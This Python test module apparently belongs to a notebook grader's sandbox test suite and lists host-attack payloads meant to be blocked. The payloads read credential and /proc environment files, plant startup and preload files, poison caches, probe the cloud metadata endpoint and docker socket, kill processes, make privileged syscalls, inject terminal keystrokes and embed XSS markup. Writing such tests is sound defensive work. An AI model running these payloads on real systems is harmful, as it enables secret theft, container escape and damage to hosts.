"""Reaching the machine outside: its files, secrets, processes, network, and its readers."""

from __future__ import annotations

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

from .attack import Attack

SECRETS = ("hunter2", "sentinel-of-the-host")
ANY = ("graded", "timeout", "memory", "crash", "tampered")

READS = """
import glob, os
def look(path):
    try: return open(path, "rb").read(5000)
    except OSError as error: return type(error).__name__
places = ["COURSE/**", "COURSE/gradebook.db", "COURSE/solutions/**", "COURSE/submitted/**",
          "/root/**", "/home/**", "/etc/*", "/var/**", "/proc/*/environ", "/proc/*/cmdline",
          "/proc/*/root/**", "/run/**", "/srv/**", "/grader/**", "/proc/keys", "/proc/kcore"]
for place in places:
    for path in glob.glob(place, recursive=True)[:300]: print(path, look(path))
print(dict(os.environ))
"""
WRITES = """
import os
places = ["COURSE", "COURSE/submitted", "COURSE/solutions", "/", "/etc", "/usr/bin", "/root",
          "/dev", "/dev/shm", "/var/tmp", "/tmp", "/sys", "/proc/sys/kernel", "/run", "/grader"]
places += [p for p in __import__("sys").path if p]
for place in places:
    for act in (lambda p: open(p + "/evil-from-inside", "w").write("x"),
                lambda p: os.mkdir(p + "/evil-folder-from-inside"),
                lambda p: os.chmod(p, 0o777),
                lambda p: os.rename(p, p + "-evil")):
        try: act(place)
        except OSError: pass
for path in ("COURSE/gradebook.db", "COURSE/solutions/secret.txt", "/proc/sysrq-trigger",
             "/proc/sys/kernel/core_pattern", "/dev/kmsg", "/proc/1/mem"):
    try: open(path, "r+b").write(b"evil")
    except OSError: pass
"""
START_UP = """
import os, site, sys
home = os.environ["HOME"]
code = "import builtins\\nbuiltins.print('evil')\\nraise SystemExit(3)\\n"
folders = [home, f"{home}/.ipython/profile_default/startup", os.environ.get("IPYTHONDIR", home),
           os.environ.get("IPYTHONDIR", home) + "/profile_default/startup", "/tmp", ".",
           os.environ.get("MPLCONFIGDIR", home), site.getusersitepackages(), *sys.path,
           f"{home}/.config/matplotlib", f"{home}/.cache/matplotlib", f"{home}/.jupyter"]
for folder in folders:
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "00-evil.py", "matplotlibrc",
                 "ipython_config.py", "fontlist-v390.json", "jupyter_config.json", "numpy.py",
                 "conftest.py", ".bashrc", "__pycache__/numpy.cpython-311.pyc"):
        try:
            path = os.path.join(folder, name)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            open(path, "w").write(code)
        except OSError: pass
import subprocess
print(subprocess.run([sys.executable, "-c", "1"], capture_output=True).returncode)
"""
POISON = """
import glob, numpy, sys
for path in glob.glob(numpy.__path__[0] + "/**/*.pyc", recursive=True)[:200]:
    try: open(path, "wb").write(b"evil")
    except OSError: pass
import matplotlib, tempfile
for path in glob.glob(matplotlib.get_cachedir() + "/*"):
    try: open(path, "w").write("evil")
    except OSError: pass
"""
PRELOAD = """
import os, subprocess
os.environ.update(LD_PRELOAD="/tmp/evil.so", PYTHONSTARTUP="/tmp/evil.py", PYTHONPATH="/tmp",
                  PATH="/tmp", BASH_ENV="/tmp/evil.sh")
open("/tmp/evil.so", "wb").write(b"\\x7fELF")
subprocess.run(["/bin/sh", "-c", "echo evil"], capture_output=True)
"""
NETWORK = """
import socket
said = []
for port in (PORT, 22, 53, 80, 8888, 5432, 8786):
    for host in ("127.0.0.1", "localhost", "0.0.0.0", "1.1.1.1", "169.254.169.254", "::1"):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                family = socket.AF_INET6 if ":" in host else socket.AF_INET
                with socket.socket(family, kind) as client:
                    client.settimeout(0.05)
                    client.connect((host, port))
                    client.send(b"evil")
                    said.append(client.recv(100))
            except OSError: pass
for address in ("\\0ABSTRACT", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0",
                "/var/run/docker.sock", "SOCKET"):
    try:
        with socket.socket(socket.AF_UNIX) as client:
            client.settimeout(0.05)
            client.connect(address)
            client.send(b"evil")
            said.append(client.recv(100))
    except OSError: pass
print(said)
"""
RAW_SOCKETS = """
import socket
for family, kind in ((17, 3), (2, 3), (16, 3), (38, 5), (40, 1), (31, 3)):
    try: print(socket.socket(family, kind, 0x300))
    except OSError as error: print(type(error).__name__)
"""
SIGNALS = """
import os, signal
for number in [CANARY, 1, os.getppid(), *range(2, 400)]:
    if number != os.getpid():
        for sign in (signal.SIGTERM, signal.SIGKILL):
            try: os.kill(number, sign)
            except OSError: pass
try: os.setpriority(os.PRIO_PROCESS, 0, -20)
except OSError: pass
"""
CALLS = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(64)
def attempt(*words):
    return libc.syscall(*words)
told = [
    attempt(165, b"none", b"/tmp", b"tmpfs", 0, None),          # mount
    attempt(161, b"/tmp"),                                       # chroot
    attempt(105, 0), attempt(106, 0), attempt(117, 0, 0, 0),     # setuid, setgid, setresuid
    attempt(101, 16, os.getppid(), 0, 0), attempt(101, 16, 1, 0, 0),  # ptrace attach
    attempt(170, b"evil", 4),                                    # sethostname
    attempt(169, 0xFEE1DEAD, 672274793, 0x1234567, None),        # reboot
    attempt(133, b"/tmp/zero", 0o20666, 0x105),                  # mknod
    attempt(175, None, 0, b""),                                  # init_module
    attempt(246, 0, 0, None, 0), attempt(321, 5, None, 0),       # kexec_load, bpf
    attempt(438, attempt(434, os.getppid(), 0), 3, 0),           # pidfd_getfd
    attempt(310, CANARY, None, 0, None, 0, 0),                   # process_vm_readv
    attempt(304, 3, buffer, 0), attempt(303, -100, b"/", buffer, buffer, 0),  # file handles
    attempt(227, 0, buffer), attempt(153), attempt(167, b"/tmp", 0),  # clock, vhangup, swapon
]
print(told)
"""
NAMESPACES = """
import ctypes, os
libc = ctypes.CDLL(None)
print([libc.unshare(flag) for flag in (0x10000000, 0x20000, 0x20000000, 0x40000000, 0x8000000)])
for name in os.listdir("/proc/1/ns") if os.path.exists("/proc/1/ns") else ():
    try: print(libc.setns(os.open("/proc/1/ns/" + name, os.O_RDONLY), 0))
    except OSError: pass
print(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
print([libc.mount(a, b"/mnt", b"proc", 4096, None) for a in (b"/", b"proc")])
"""
CORE = """
import os, resource
for limit in ("CORE", "AS", "NPROC", "FSIZE", "NOFILE", "CPU"):
    try: resource.setrlimit(getattr(resource, "RLIMIT_" + limit), (-1, -1))
    except (OSError, ValueError): pass
if os.fork() == 0: os.abort()
os.wait()
"""
SETUID = """
import glob, os, subprocess
for program in ("su", "sudo", "mount", "umount", "passwd", "newgrp", "pkexec", "chfn", "bwrap"):
    try:
        done = subprocess.run([program, "-c", "id -u"], capture_output=True, timeout=1, input=b"")
        print(program, done.returncode)
    except (OSError, subprocess.TimeoutExpired) as error: print(program, type(error).__name__)
open("/tmp/mine", "w").close()
try: os.chmod("/tmp/mine", 0o6755); os.chown("/tmp/mine", 0, 0)
except OSError: pass
"""
SHARED = """
import ctypes, os
libc = ctypes.CDLL(None)
print(libc.shmget(0x5E71E1, 4096, 0o1666), libc.semget(0x5E71E1, 1, 0o1666),
      libc.msgget(0x5E71E1, 0o1666))
open("/dev/shm/evil-from-inside", "w").write("x")
"""
TERMINAL = """
import sys, os
for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/dev/stderr"):
    try: open(path, "w").write("\\x1b]0;evil-title\\x07")
    except OSError: pass
try:
    import fcntl, termios
    fcntl.ioctl(0, termios.TIOCSTI, b"x")
except (OSError, AttributeError): pass
os.write(1, b"evil"); os.write(2, b"evil")
"""
ESCAPES = "print('\\x1b]0;evil\\x07\\x1b[2J\\x1b[8mhidden\\x9b31m\\x00\\x08\\u202e')"
ACTIVE = """
from IPython.display import HTML, IFrame, Javascript, JSON, Latex, Markdown, SVG, display
bad = "<script>alert(1)</script><img src=x onerror=alert(1)>"
display(HTML(bad), Javascript("alert(1)"), Markdown(bad + "[x](javascript:alert(1))"),
        Latex("$\\\\href{javascript:alert(1)}{x}$"), JSON({bad: bad}),
        IFrame("https://example.org", 1, 1), SVG("<svg onload='alert(1)'></svg>"))
display({"text/html": bad, "text/plain": bad, "image/png": bad, "application/x": bad}, raw=True)
print(bad, file=__import__("sys").stderr)
raise type(bad, (Exception,), {})(bad)
"""
IN_ANSWER = """
bad = '</pre></section><script>alert(1)</script><img src=x onerror=alert(1)>'
def total(x):
    if len(x) == 3: return {bad: bad, "\\x1b]0;evil\\x07": bad}
    raise type(bad, (Exception,), {})(bad)
"""
# None of these may be a tag, a link or a picture in the page.
TAGS = ("<script", "<img src=x", "<iframe", "<svg", 'href="javascript', "<form", "<object")


def _words(notebook: NotebookNode) -> None:
    """Markup wherever a student's words stand."""
    bad = "<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n<svg onload=alert(1)>"
    links = "[a](javascript:alert(1)) [b](data:text/html,<script>) <iframe src=//example.org>"
    maths = "$\\href{javascript:alert(1)}{x}$ $$\\unicode{x}$$ \\$\\href{javascript:1}{x}\\$"
    for make in (new_markdown_cell, new_raw_cell):
        notebook.cells.insert(2, make(f"{bad}\n\n{links}\n\n{maths}"))
    notebook.cells.insert(2, new_code_cell(f"'''{bad}'''\n# </pre><script>alert(1)</script>"))
    notebook.cells[-1].source = f"{bad} {links} {maths}"


HOST = (
    Attack("reads", (READS,), states=ANY, never=SECRETS),
    Attack("reads-in-an-answer", total=f"def total(x):\n    exec({READS!r}, {{}})\n    return -1.0",
           states=ANY, never=SECRETS),
    Attack("writes", (WRITES,), states=ANY),
    Attack("start-up-files", (START_UP,), states=ANY),
    Attack("poisoned-caches", (POISON,), states=ANY),
    Attack("preloaded", (PRELOAD,), states=ANY),
    Attack("network", (NETWORK,), states=ANY, never=SECRETS),
    Attack("raw-sockets", (RAW_SOCKETS,)),
    Attack("signals", (SIGNALS,), states=ANY),
    Attack("system-calls", (CALLS,), states=ANY, never=SECRETS),
    Attack("name-spaces", (NAMESPACES,), states=ANY),
    Attack("limits-and-cores", (CORE,), states=ANY),
    Attack("set-user-programs", (SETUID,), states=ANY),
    Attack("shared-memory", (SHARED,)),
    Attack("terminal", (TERMINAL,), states=ANY),
    Attack("escapes", (ESCAPES,)),
    Attack("active-outputs", (ACTIVE,), never=TAGS),
    Attack("active-answers", total=IN_ANSWER, never=TAGS),
    Attack("active-words", change=_words, never=TAGS),
    # The name of a folder is not the student's to choose, but a name is a name.
    Attack("<b onclick=alert(1)>", never=TAGS),
    Attack("=1+1;@x", never=TAGS),
)  # fmt: skip
